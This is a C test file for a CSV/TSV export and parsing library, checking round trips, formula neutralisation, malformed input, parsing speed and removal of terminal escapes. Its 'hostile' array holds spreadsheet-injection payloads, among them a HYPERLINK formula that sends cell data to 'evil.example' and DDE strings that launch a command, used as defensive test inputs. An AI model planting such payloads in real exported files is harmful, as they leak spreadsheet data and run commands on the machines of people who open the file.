/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>

#include "tcia-csv.h"
#include "tcia-text.h"

static const char * const hostile[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "+1+1",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tx",
  "\rx",
  "a,b",
  "say \"hi\"",
  "line one\nline two",
  "line one\r\nline two\r\n",
  " padded ",
  "'=already quoted",
  "''-x",
  "'plain",
  "'",
  "",
  "-",
  "=",
  "-1.5",
  "+3",
  "-2e5",
  "\"",
  "\"\"",
  ",",
};

/* Every value, written as one record, reads back the same. */
static void
check_round_trip (char        separator,
                  const char *value)
{
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(TciaCsvReader) reader = NULL;
  g_autoptr(GPtrArray) fields = NULL;
  gboolean terminated = FALSE;

  g_string_append (out, "first");
  g_string_append_c (out, separator);
  tcia_csv_append_field (out, value);
  g_string_append_c (out, separator);
  g_string_append (out, "last\r\n");

  reader = tcia_csv_reader_new (out->str, out->len, separator);
  g_assert_true (tcia_csv_reader_next (reader, &fields, &terminated));
  g_assert_true (terminated);
  g_assert_cmpuint (fields->len, ==, 3);
  g_assert_cmpstr (fields->pdata[0], ==, "first");
  g_assert_cmpstr (fields->pdata[1], ==, value);
  g_assert_cmpstr (fields->pdata[2], ==, "last");
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_assert_false (tcia_csv_reader_next (reader, &fields, &terminated));
}

static void
test_round_trip (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    check_round_trip (',', hostile[i]);
}

/* What a spreadsheet sees: no cell starts a formula, numbers stay numbers. */
static void
test_neutralised (void)
{
  static const struct
  {
    const char *value, *csv, *tsv;
  } cases[] = {
    { "=1+1", "'=1+1", "'=1+1" },
    { "+1+1", "'+1+1", "'+1+1" },
    { "-cmd", "'-cmd", "'-cmd" },
    { "@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)" },
    { "\tx", "'\tx", "' x" },
    { "\rx", "\"'\rx\"", "' x" },
    { "=a,b", "\"'=a,b\"", "'=a,b" },
    { "=\"x\"", "\"'=\"\"x\"\"\"", "'=\"x\"" },
    { "'=x", "''=x", "''=x" },
    { "-1.5", "-1.5", "-1.5" },
    { "+3", "+3", "+3" },
    { "-2e5", "-2e5", "-2e5" },
    { "-inf", "'-inf", "'-inf" },
    { "-0x10", "'-0x10", "'-0x10" },
    { "-1.5 ", "\"'-1.5 \"", "'-1.5 " },
    { "a\tb\nc", "\"a\tb\nc\"", "a b c" },
    { "plain", "plain", "plain" },
    { " x", "\" x\"", " x" },
    { NULL, "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GString) csv = g_string_new (NULL);
      g_autoptr(GString) tsv = g_string_new (NULL);

      tcia_csv_append_field (csv, cases[i].value);
      tcia_tsv_append_field (tsv, cases[i].value);
      g_assert_cmpstr (csv->str, ==, cases[i].csv);
      g_assert_cmpstr (tsv->str, ==, cases[i].tsv);
    }
}

static GPtrArray *
read_all (const char *text,
          gsize       len,
          char        separator,
          GArray     *terminated)
{
  g_autoptr(TciaCsvReader) reader = tcia_csv_reader_new (text, len, separator);
  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *fields;
  gboolean ended;

  while (tcia_csv_reader_next (reader, &fields, &ended))
    {
      g_ptr_array_add (records, fields);
      g_array_append_val (terminated, ended);
    }
  return records;
}

#define FIELD(records, r, f) ((const char *) ((GPtrArray *) (records)->pdata[r])->pdata[f])
#define N_FIELDS(records, r) (((GPtrArray *) (records)->pdata[r])->len)

static void
test_reader (void)
{
  const char text[] = "a,\"b,1\",\"say \"\"hi\"\"\"\r\n"
                      "\"two\nlines\",,x\n"
                      "\n"
                      "last,row";
  g_autoptr(GArray) ended = g_array_new (FALSE, FALSE, sizeof (gboolean));
  g_autoptr(GPtrArray) records = read_all (text, strlen (text), ',', ended);

  g_assert_cmpuint (records->len, ==, 4);
  g_assert_cmpuint (N_FIELDS (records, 0), ==, 3);
  g_assert_cmpstr (FIELD (records, 0, 0), ==, "a");
  g_assert_cmpstr (FIELD (records, 0, 1), ==, "b,1");
  g_assert_cmpstr (FIELD (records, 0, 2), ==, "say \"hi\"");
  g_assert_cmpuint (N_FIELDS (records, 1), ==, 3);
  g_assert_cmpstr (FIELD (records, 1, 0), ==, "two\nlines");
  g_assert_cmpstr (FIELD (records, 1, 1), ==, "");
  g_assert_cmpstr (FIELD (records, 1, 2), ==, "x");
  /* A blank line is one empty field. */
  g_assert_cmpuint (N_FIELDS (records, 2), ==, 1);
  g_assert_cmpstr (FIELD (records, 2, 0), ==, "");
  /* Cut short: no line break. */
  g_assert_cmpstr (FIELD (records, 3, 1), ==, "row");
  g_assert_true (g_array_index (ended, gboolean, 0));
  g_assert_true (g_array_index (ended, gboolean, 1));
  g_assert_true (g_array_index (ended, gboolean, 2));
  g_assert_false (g_array_index (ended, gboolean, 3));
}

static void
test_reader_tabs (void)
{
  const char text[] = "a\tb,c\t'=x\n";
  g_autoptr(GArray) ended = g_array_new (FALSE, FALSE, sizeof (gboolean));
  g_autoptr(GPtrArray) records = read_all (text, strlen (text), '\t', ended);

  g_assert_cmpuint (records->len, ==, 1);
  g_assert_cmpuint (N_FIELDS (records, 0), ==, 3);
  g_assert_cmpstr (FIELD (records, 0, 1), ==, "b,c");
  g_assert_cmpstr (FIELD (records, 0, 2), ==, "=x");
}

static void
test_reader_malformed (void)
{
  static const struct
  {
    const char *text;
    guint n_records;
    const char *last_field;
    gboolean terminated;
  } cases[] = {
    /* An unclosed quote takes the rest of the text, and ends nothing. */
    { "a,\"open\nstill open", 1, "open\nstill open", FALSE },
    { "a,\"", 1, "", FALSE },
    /* A stray quote in an unquoted value is part of it. */
    { "a,b\"c\"d\n", 1, "b\"c\"d", TRUE },
    /* After a closing quote, the rest up to the separator is kept. */
    { "\"ab\"cd\n", 1, "abcd", TRUE },
    /* A lone CR is a character, not a line end. */
    { "a\rb\n", 1, "a\rb", TRUE },
    { "a\r", 1, "a\r", FALSE },
    { "a,\n", 1, "", TRUE },
    { "a,", 1, "", FALSE },
    { "\n\n", 2, "", TRUE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GArray) ended = g_array_new (FALSE, FALSE, sizeof (gboolean));
      g_autoptr(GPtrArray) records = read_all (cases[i].text, strlen (cases[i].text), ',', ended);
      GPtrArray *last;

      g_assert_cmpuint (records->len, ==, cases[i].n_records);
      last = records->pdata[records->len - 1];
      g_assert_cmpstr (last->pdata[last->len - 1], ==, cases[i].last_field);
      g_assert_cmpint (g_array_index (ended, gboolean, records->len - 1), ==, cases[i].terminated);
    }

  /* Nothing at all: no record. */
  {
    g_autoptr(TciaCsvReader) reader = tcia_csv_reader_new (NULL, 0, ',');
    GPtrArray *fields = NULL;

    g_assert_false (tcia_csv_reader_next (reader, &fields, NULL));
    g_assert_null (fields);
  }
}

/* Embedded NUL bytes cut a value but never the reading. */
static void
test_reader_nul (void)
{
  const char text[] = "a\0b,c\n\"d\0e\",f\n";
  g_autoptr(GArray) ended = g_array_new (FALSE, FALSE, sizeof (gboolean));
  g_autoptr(GPtrArray) records = read_all (text, sizeof text - 1, ',', ended);

  g_assert_cmpuint (records->len, ==, 2);
  g_assert_cmpstr (FIELD (records, 0, 0), ==, "a");
  g_assert_cmpstr (FIELD (records, 0, 1), ==, "c");
  g_assert_cmpstr (FIELD (records, 1, 1), ==, "f");
}

/* Hostile input stays linear: a million quotes, a million commas, a million
 * "'" before a formula. No clock is read (tests never assert on time): a
 * quadratic reader takes hours over these and meets the suite's timeout. */
static void
test_reader_linear (void)
{
  const gsize n = 1000000;
  const char fill[] = { '"', ',', '\'', '\n' };

  for (guint k = 0; k < G_N_ELEMENTS (fill); k++)
    {
      g_autofree char *text = g_malloc (n + 1);
      g_autoptr(TciaCsvReader) reader = NULL;
      GPtrArray *fields;
      guint n_records = 0;

      memset (text, fill[k], n);
      text[n] = fill[k] == '\'' ? '=' : fill[k];
      reader = tcia_csv_reader_new (text, n + 1, ',');
      while (tcia_csv_reader_next (reader, &fields, NULL))
        {
          g_ptr_array_unref (fields);
          n_records++;
        }
      g_assert_cmpuint (n_records, >, 0);
    }
}

static void
test_unneutralize (void)
{
  static const struct
  {
    const char *in, *out;
  } cases[] = {
    { "'=x", "=x" },
    { "''=x", "'=x" },
    { "'\tx", "\tx" },
    { "'x", "'x" },
    { "'", "'" },
    { "''", "''" },
    { "x'=", "x'=" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *value = g_strdup (cases[i].in);

      tcia_csv_unneutralize (value);
      g_assert_cmpstr (value, ==, cases[i].out);
    }
  tcia_csv_unneutralize (NULL);
}

/* What listings write keeps its text and line breaks but no terminal escape. */
static void
test_strip_controls (void)
{
  static const struct
  {
    const char *in, *out;
  } cases[] = {
    { "plain é ✓", "plain é ✓" },
    { "a\tb\r\nc", "a\tb\r\nc" },
    { "\x1b[31mred\x1b[0m", "[31mred[0m" },
    { "bell\a nul-less \x01\x1f\x7f", "bell nul-less " },
    { "c1 \xc2\x9b""31m \xc2\xa0", "c1 31m \xc2\xa0" },
    { "bad \x9b utf-8", "bad \xef\xbf\xbd utf-8" },
    { NULL, "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *out = tcia_text_strip_controls (cases[i].in);

      g_assert_cmpstr (out, ==, cases[i].out);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/core/csv/round-trip", test_round_trip);
  g_test_add_func ("/core/csv/neutralised", test_neutralised);
  g_test_add_func ("/core/csv/unneutralize", test_unneutralize);
  g_test_add_func ("/core/csv/reader", test_reader);
  g_test_add_func ("/core/csv/reader-tabs", test_reader_tabs);
  g_test_add_func ("/core/csv/reader-malformed", test_reader_malformed);
  g_test_add_func ("/core/csv/reader-nul", test_reader_nul);
  g_test_add_func ("/core/csv/reader-linear", test_reader_linear);
  g_test_add_func ("/core/text/strip-controls", test_strip_controls);

  return g_test_run ();
}
